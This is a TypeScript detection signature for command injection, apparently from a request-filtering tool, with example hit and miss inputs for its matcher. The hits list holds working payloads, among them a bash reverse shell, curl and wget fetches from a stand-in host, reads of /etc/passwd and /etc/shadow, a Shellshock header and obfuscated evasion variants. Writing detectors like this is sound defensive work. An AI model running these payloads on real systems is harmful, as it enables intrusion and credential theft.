import type { Reading } from '../readings/reading.ts';
import { argumentInjection } from '../shell/argument-injection.ts';
import { askedCommand } from '../shell/asked-command.ts';
import { findCommand } from '../shell/find-commands.ts';
import type { Finding, Signature } from '../signature.ts';

export const commandInjection: Signature = {
  type: 'command_injection',
  mitre: null,
  impact: [35, 45],
  examples: {
    hits: [
      ';id',
      '-oProxyCommand=id',
      '--upload-pack=touch /tmp/x',
      '1&ver&rem',
      'x&dir,c:\\&rem',
      ';for i in 1;do id;done',
      'print(`id`)',
      '127.0.0.1 && whoami',
      'report.pdf|cat flag.txt',
      "x'; sleep 10 #",
      'a\ncat /etc/passwd',
      '$(curl -s http://203.0.113.9/x)',
      '`nslookup x.example.net`',
      ";w'h'o$@ami",
      `8.8.8.8;cat\${IFS}/etc/passwd`,
      '{cat,/etc/shadow}',
      '/???/c?t /e?c/p?sswd',
      ";$'\\x63\\x61\\x74' /etc/hosts",
      'echo aWQ= | base64 -d | sh',
      'bash -i >& /dev/tcp/203.0.113.9/4242 0>&1',
      '& type C:\\Windows\\win.ini',
      '|p^o^w^ershell -enc SQBFAFgA',
      'net user guest secret /add',
      'ping%PROGRAMFILES:~10,-5%127.0.0.1',
      "';passthru('ls -la');//",
      "__import__('os').system('id')",
      { query: 'cmd=whoami' },
      { query: 'function=call_user_func_array&vars[0]=system' },
      { headers: { 'user-agent': '() { :; }; /usr/bin/wget http://203.0.113.9/a' } },
      { method: 'POST', contentType: 'application/json', body: '{"host":{"name":"10.0.0.1; uname -a"}}' },
    ],
    misses: [
      'Tom & Jerry; cat food',
      'R&D | Sales | Date',
      '| id | name |',
      'name;id;date',
      'Use `whoami` to see who you are',
      '$(document).ready(function () { $("#id").hide(); })',
      `Hello \${name}, it costs $5; $6 with VAT`,
      'color: red; top: 5px; cursor: pointer',
      'npm ci && npm test',
      '-o json --output=report.txt',
      'for f in *.txt; do mv "$f" old; done',
      'kubectl get pods | grep web && kubectl logs web',
      'user && user.id || date',
      'ping example.org fails',
      'type 2 diabetes',
      'C:\\Users\\Ann\\report (final).pdf',
      'il a dit : « oui » ; puis il est parti',
      './dist/index.js',
      { body: '{"answer":"ls -l | sort -n"}', contentType: 'application/json' },
      { query: 'cmd=status&action=exec&command=list' },
      { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' } },
      '<?php tutorial for beginners ?>',
      'C:\\> ipconfig /flushdns & ping 8.8.8.8',
    ],
  },
  couldMatch: () => true,
  match(reading: Reading): Finding | null {
    const found = findCommand(reading);
    if (found !== null || reading.leaf.isPiece === true || reading.leaf.kind === 'path') return found;
    return argumentInjection(reading.lower) ?? askedCommand(reading);
  },
};
